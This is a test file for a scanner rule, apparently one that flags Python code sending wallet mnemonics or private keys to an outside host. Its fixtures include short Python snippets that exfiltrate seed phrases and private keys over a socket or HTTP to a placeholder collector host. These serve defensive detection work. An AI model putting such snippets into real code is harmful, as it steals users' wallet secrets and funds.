import { testRule } from '../../../../../test/builders/python-package.ts';
import { secretArgument } from './rule.ts';

testRule(secretArgument, {
  seen: {
    'a phrase over a socket':
      "import socket\ndef load(mnemonic):\n    s = socket.socket()\n    s.connect(('collector.example.invalid', 443))\n    s.send(mnemonic.encode())",
    'a private key':
      "import requests\ndef load(private_key):\n    requests.post('https://collector.example.invalid', json={'k': private_key})",
    'a phrase kept in an object':
      "import requests\nclass Wallet:\n    def __init__(self, mnemonic):\n        self.words = mnemonic\n    def sync(self):\n        requests.get('https://collector.example.invalid/?w=' + self.words)",
  },
  unseen: {
    'a key of a service':
      "import requests\ndef load(api_key):\n    requests.post('https://collector.example.invalid', json={'k': api_key})",
    'a key that stays':
      "import requests\ndef load(private_key):\n    requests.post('https://collector.example.invalid', json={'k': 1})",
  },
});
